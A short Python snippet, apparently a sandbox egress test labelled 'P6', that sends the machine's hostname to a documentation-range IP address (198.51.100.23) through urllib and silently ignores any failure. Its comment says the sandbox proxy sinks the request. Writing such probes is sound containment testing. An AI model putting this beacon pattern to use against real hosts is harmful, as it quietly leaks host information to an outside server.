# P6 in Python: urllib to a raw IP literal (198.51.100.23, TEST-NET-2). urllib honours HTTP_PROXY, so
# the request reaches the sandbox's proxy, which sinks it.
import socket, urllib.request
try:
    urllib.request.urlopen(f"http://198.51.100.23:8000/6202033?h={socket.gethostname()}", timeout=3).read()
except Exception:
    pass
